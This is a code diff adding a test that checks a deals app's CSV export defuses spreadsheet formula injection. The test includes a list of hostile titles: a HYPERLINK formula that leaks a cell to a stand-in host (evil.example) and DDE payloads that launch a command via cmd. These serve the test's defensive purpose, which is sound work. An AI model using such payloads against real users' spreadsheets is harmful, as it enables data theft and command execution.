@@ -57,6 +57,35 @@ def test_the_csv_streams_every_filtered_row_under_a_header_of_column_labels(clie
     assert now == "10.00"
 
 
+HOSTILE_TITLES = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_the_csv_never_hands_a_spreadsheet_a_formula_and_keeps_numbers_numbers(client):
+    for i, title in enumerate(HOSTILE_TITLES):
+        make_deal(f"H{i:09d}", title=title, delta_percent=90 - i, profit=-250, roi_percent=-12)
+
+    response = client.get("/deals.csv")
+
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    names = [c.name for c in COLUMNS]
+    by_asin = {r[names.index("asin")]: r for r in rows[1:]}
+    for i, title in enumerate(HOSTILE_TITLES):
+        row = by_asin[f"H{i:09d}"]
+        # Shown as the seller wrote it, behind the quote a spreadsheet hides and does not run.
+        assert row[names.index("title")] == "'" + title
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
+        # A loss is still a number a spreadsheet can sum, not neutralised text.
+        assert row[names.index("profit")] == "-2.50" and float(row[names.index("profit")]) < 0
+        assert float(row[names.index("roi_percent")]) == -12
+
+
 @pytest.mark.parametrize("url", ["/api/deals", "/api/total_deals"])
 def test_the_api_answers_401_to_anonymous_clients(url):
     response = Client().get(url)
